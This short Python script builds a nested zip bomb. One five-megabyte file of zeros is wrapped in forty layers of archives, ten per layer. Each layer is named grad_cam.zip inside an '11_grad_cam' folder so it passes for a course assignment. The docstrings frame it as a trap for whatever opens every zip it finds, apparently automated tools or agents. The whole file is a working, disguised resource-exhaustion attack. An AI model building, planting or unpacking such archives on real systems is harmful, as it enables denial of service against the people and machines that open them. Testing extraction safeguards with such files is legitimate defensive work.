"""A zip in a zip, forty deep and ten wide, each named like the work."""

import io
import zipfile
from pathlib import Path


def make(folder: Path) -> None:
    """Who opens every zip that they find never ends."""
    inner = _zip({"11_grad_cam/grad_cam.py": b"0" * 5_000_000})
    for _ in range(40):
        inner = _zip({f"11_grad_cam/{n}/grad_cam.zip": inner for n in range(10)})
    (folder / "grad_cam.zip").write_bytes(inner)


def _zip(files: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return data.getvalue()
